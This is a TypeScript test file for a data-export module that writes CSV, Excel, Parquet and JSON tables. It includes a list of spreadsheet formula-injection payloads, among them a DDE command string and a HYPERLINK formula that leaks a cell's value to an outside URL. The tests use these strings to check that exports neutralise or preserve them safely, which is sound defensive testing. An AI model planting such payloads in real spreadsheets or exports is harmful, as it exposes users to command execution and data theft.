import { parse } from 'csv-parse/sync'
import { parquetMetadata, parquetReadObjects } from 'hyparquet'
import readXlsxFile, { readSheet } from 'read-excel-file/node'
import { describe, expect, it } from 'vitest'
import { columnsOf, type ExportRow, type ExportTable, type TableFormat } from './table.ts'
import { writeTable } from './write-table.ts'
import { xlsx } from './xlsx.ts'

const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '＝1+1',
  '=HYPERLINK("https://example.org?"&A1,"press")',
  "=cmd|' /C calc'!A0",
  '";=1+1;"',
  'harmless;=1+1',
  'harmless\t+1+1',
  'harmless,@SUM(1)',
  'said "=1+1" aloud',
  'one\r\n=1+1',
] as const
const PLAIN = [
  '',
  'plain',
  'ends with =',
  'a-b',
  'a=b',
  "it's",
  'x, y',
  'say "hi"',
  '<b>&amp;</b>',
  '_x0041_',
  '日本語 🎉',
  '\u0000\u000b',
  ' edge ',
]

const file = async (format: TableFormat, more: Partial<ExportTable> = {}) => Buffer.concat(await pieces(writeTable(format, tableOf(more))))
async function pieces(source: AsyncIterable<Uint8Array>): Promise<Uint8Array[]> {
  const found: Uint8Array[] = []
  for await (const piece of source) found.push(piece)
  return found
}
function tableOf(more: Partial<ExportTable>): ExportTable {
  const rows: ExportRow[] = [
    ['first', 1.5],
    ['second', null],
    ['third', -3],
  ]
  return {
    title: 'Posts',
    columns: columnsOf(['name', 'views'], rows),
    about: [
      ['from', '2026-11-01'],
      ['n', 3],
    ],
    batches: [rows],
    ...more,
  }
}
const texts = (values: readonly string[]) =>
  ({ columns: [{ name: 'text', kind: 'text' }], batches: [values.map((value) => [value])] }) as const
const bufferOf = ({ buffer, byteOffset, byteLength }: Buffer) => buffer.slice(byteOffset, byteOffset + byteLength) as ArrayBuffer

describe('CSV', () => {
  /** What a spreadsheet takes for cells, whichever sign it splits at and whether or not it knows quotes. */
  const cellsBy = (content: string) => [
    ...parse(content, { bom: true, relax_column_count: true }).flat(),
    ...[';', '\t', '|', ','].flatMap((sign) => content.split(/\r\n|\r|\n/).flatMap((line) => line.split(sign))),
  ]

  it.each(HOSTILE)('never begins a cell with a formula: %j', async (text) => {
    const content = (await file('csv', texts([text]))).toString()
    for (const cell of cellsBy(content)) expect(cell.replace(/^\uFEFF/, '').replace(/^[\s"]+/, '')).not.toMatch(/^[=+\-@＝＋－＠]/)
  })

  it('keeps harmless text and numbers as they are', async () => {
    const kept = PLAIN.filter((text) => text !== '')
    expect(parse(await file('csv', texts(kept)), { bom: true })).toEqual([['text'], ...kept.map((text) => [text])])
    expect((await file('csv')).toString()).toBe('\uFEFFname,views\r\nfirst,1.5\r\nsecond,\r\nthird,-3\r\n')
  })
})

describe('Excel', () => {
  it.each([...HOSTILE, ...PLAIN.slice(1, -1)])('holds the text itself, typed as text: %j', async (text) => {
    const book = await file('xlsx', texts([text]))
    expect(await readSheet(book, 'Data', { trim: false })).toEqual([['text'], [text]])
  })

  it('types numbers as numbers and leaves what is missing empty', async () => {
    const [data, about] = await readXlsxFile(await file('xlsx'))
    expect(data).toEqual({
      sheet: 'Data',
      data: [
        ['name', 'views'],
        ['first', 1.5],
        ['second', null],
        ['third', -3],
      ],
    })
    expect(about).toEqual({
      sheet: 'About',
      data: [
        ['Title', 'Posts'],
        ['from', '2026-11-01'],
        ['n', 3],
      ],
    })
  })

  it('goes on in another sheet when one is full, and begins none without rows', async () => {
    const numbers = Array.from({ length: 10 }, (_, index) => [index])
    const table = tableOf({ columns: [{ name: 'n', kind: 'number' }], batches: [numbers.slice(0, 3), [], numbers.slice(3)] })
    const sheets = await readXlsxFile(Buffer.concat(await pieces(xlsx(table, { sheetRowsMax: 6 }))))
    expect(sheets.map(({ sheet, data }) => [sheet, data.slice(1).flat()])).toEqual([
      ['Data', [0, 1, 2, 3, 4]],
      ['Data 2', [5, 6, 7, 8, 9]],
      ['About', expect.anything()],
    ])
  })

  it('cuts a text that no cell holds, and says so', async () => {
    const [data, about] = await readXlsxFile(await file('xlsx', texts(['x'.repeat(40_000)])))
    expect(String(data?.data[1]?.[0])).toHaveLength(32_767)
    expect(about?.data.at(-1)).toEqual(['Cut cells', '1, to the 32767 characters that a cell holds'])
  })

  it('is the same file for the same rows', async () => {
    expect(await file('xlsx')).toEqual(await file('xlsx'))
  })
})

describe('Parquet', () => {
  it('keeps texts and numbers as they are, and says in its metadata what they are', async () => {
    const content = bufferOf(await file('parquet'))
    expect(await parquetReadObjects({ file: content })).toEqual([
      { name: 'first', views: 1.5 },
      { name: 'second', views: null },
      { name: 'third', views: -3 },
    ])
    expect(parquetMetadata(content).key_value_metadata).toEqual([
      { key: 'title', value: 'Posts' },
      { key: 'from', value: '2026-11-01' },
      { key: 'n', value: '3' },
    ])
    const hostile = bufferOf(await file('parquet', texts(HOSTILE)))
    expect((await parquetReadObjects({ file: hostile })).map(({ text }) => text)).toEqual(HOSTILE)
  })

  it('writes groups of rows as they come', async () => {
    const batches = Array.from({ length: 5 }, (_, batch) => Array.from({ length: 9000 }, (_, row) => [batch * 9000 + row]))
    const content = bufferOf(await file('parquet', { columns: [{ name: 'n', kind: 'number' }], batches }))
    expect(parquetMetadata(content).row_groups.map(({ num_rows }) => Number(num_rows))).toEqual([27_000, 18_000])
    expect((await parquetReadObjects({ file: content })).map(({ n }) => n)).toEqual(batches.flat(2))
  })
})

describe('JSON', () => {
  it('holds what the rows are beside them', async () => {
    expect(JSON.parse((await file('json')).toString())).toEqual({
      about: { title: 'Posts', from: '2026-11-01', n: 3 },
      columns: ['name', 'views'],
      rows: [
        { name: 'first', views: 1.5 },
        { name: 'second', views: null },
        { name: 'third', views: -3 },
      ],
    })
    const hostile = JSON.parse((await file('json', texts(HOSTILE))).toString()) as { rows: { text: string }[] }
    expect(hostile.rows.map(({ text }) => text)).toEqual(HOSTILE)
  })

  it('by lines has an object a row', async () => {
    const lines = (await file('ndjson')).toString().trimEnd().split('\n')
    expect(lines.map((line) => JSON.parse(line))).toHaveLength(3)
  })
})

it.each(['csv', 'xlsx', 'parquet', 'json', 'ndjson'] as const)('%s of no rows is a whole file', async (format) => {
  const content = await file(format, { batches: [] })
  if (format === 'xlsx') expect((await readXlsxFile(content))[0]?.data).toEqual([['name', 'views']])
  if (format === 'parquet') expect(await parquetReadObjects({ file: bufferOf(content) })).toEqual([])
  if (format === 'json') expect(JSON.parse(content.toString()).rows).toEqual([])
})

it('columns of one name are told apart', () => {
  expect(columnsOf(['a', 'a', 'b'], [[1, 'x', null]])).toEqual([
    { name: 'a', kind: 'number' },
    { name: 'a 2', kind: 'text' },
    { name: 'b', kind: 'text' },
  ])
})
